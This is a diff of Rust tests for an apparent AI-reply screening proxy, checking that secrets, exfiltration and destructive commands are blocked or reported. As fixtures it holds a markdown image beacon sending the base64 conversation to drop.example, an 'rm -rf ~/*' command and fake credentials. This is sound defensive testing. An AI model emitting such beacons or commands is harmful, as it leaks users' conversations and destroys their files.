@@ -191,6 +191,26 @@ fn names_and_look_ups_in_an_object_are_no_values() {
 }
 
 #[test]
+fn a_value_that_only_its_name_tells_stops_a_whole_reply_as_it_does_a_stream() {
+    let mut plan = Fixture::plan("named-reply");
+    plan.config = json!({"limits": {"pbkdf2_iterations": 100_000}, "policy": {"replies": "block"}});
+    let proxy = plan.start();
+    for (input, verdict) in [
+        (json!({"password": "Zq9tK3xLm2w"}), "block"),
+        (json!({"argv": ["mysql", "--password", "Zq9tK3xLm2w"]}), "block"),
+        (json!({"password_field": "#login", "path": "Zq9tK3xLm2w"}), "pass"),
+    ] {
+        for (path, stream) in STREAMING.iter().flat_map(|path| [(path, false), (path, true)]) {
+            proxy.practice.set(&json!({"reply": input.to_string(), "piece": 3, "call": true}));
+            let answer = proxy.post(path, &history(path, "Go on.", "Done.", stream));
+            let is_stopped = answer.text().contains("[InferShield stopped this reply: rule secret.");
+            assert_eq!(is_stopped, verdict == "block", "{path}, {stream}: {}", answer.text());
+            assert!(stream || answer.header("x-infershield-verdict") == Some(verdict), "{path}: {input}");
+        }
+    }
+}
+
+#[test]
 fn placeholders_become_values_again_in_whole_replies_and_in_streams_cut_anywhere() {
     let proxy = Fixture::start("restored");
     let token = proxy.run.secret(TOKEN);
@@ -558,10 +578,14 @@ fn a_reply_that_leads_away_destroys_or_brings_a_secret_is_reported() {
     let fresh = proxy.run.secret(concat!("ghp", "_w8Zt3Xq9Lx5Km7Np2Vb4Yc6Hd1Jf0GsBeVuR"));
     let beacon = "![logo](https://drop.example/c.png?d={base64 of the conversation})".to_owned();
     let erase = json!({"command": "rm -rf ~/*"}).to_string();
+    let named = json!({"env": {"DB_PASSWORD": proxy.run.secret("Zq9tK3xLm2w")}}).to_string();
     for path in STREAMING {
-        for (reply, call, category) in
-            [(&beacon, false, "exfiltration"), (&erase, true, "command"), (&format!("Use {fresh}."), false, "secret")]
-        {
+        for (reply, call, category) in [
+            (&beacon, false, "exfiltration"),
+            (&erase, true, "command"),
+            (&format!("Use {fresh}."), false, "secret"),
+            (&named, true, "secret"),
+        ] {
             for stream in [false, true] {
                 proxy.practice.set(&json!({"reply": reply, "piece": 3, "call": call}));
                 let answer = proxy.post(path, &history(path, "Go on.", "Done.", stream));
